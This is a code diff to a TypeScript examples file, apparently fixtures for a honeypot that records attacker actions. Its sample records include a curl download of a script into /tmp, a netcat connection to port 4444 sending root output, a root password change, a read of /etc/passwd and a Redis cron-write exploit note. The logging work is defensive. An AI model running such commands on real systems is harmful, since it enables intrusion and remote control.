@@ -78,7 +78,24 @@ export const examples: { [K in ActionName]: Details<K>[] } = {
     },
   ],
   fileUpload: [{ path: '/incoming/eicar.com', sample }],
-  fileDownload: [{ url: 'http://198.51.100.9/i.sh', tool: 'curl' }],
+  fileDownload: [
+    {
+      url: 'http://198.51.100.9/i.sh',
+      tool: 'curl',
+      commandLine: 'curl -fsSL -o /tmp/i http://198.51.100.9/i.sh',
+      path: '/tmp/i',
+    },
+  ],
+  outboundAttempt: [{ host: '198.51.100.9', port: 4444, tool: 'nc', sent: 'uid=0(root)', sample }],
+  tunnelRequest: [
+    { kind: 'direct-tcpip', host: 'www.example.com', port: 443, origin: { host: '127.0.0.1', port: 52110 } },
+  ],
+  tunnelData: [{ host: 'www.example.com', port: 80, protocol: 'http', start: 'GET / HTTP/1.1', sample }],
+  execution: [{ path: '/tmp/x86', commandLine: './x86 ssh.scan', format: 'ELF 64-bit LSB x86-64', runs: true, sample }],
+  accountChange: [{ user: 'root', change: 'password', password: 'Tr0ub4dor' }],
+  environment: [{ name: 'LC_ALL', value: 'C.UTF-8' }],
+  terminal: [{ type: 'xterm-256color', columns: 120, rows: 40 }],
+  recording: [{ path: 'recordings/01/0192f0c1.cast.zst', bytes: 4211, milliseconds: 61_250 }],
   fileRead: [{ path: '/etc/passwd', size: 1482 }],
   exploit: [
     { id: 'redis-cron', name: 'Redis dump written as a cron job', evidence: 'CONFIG SET dir /var/spool/cron, SAVE' },
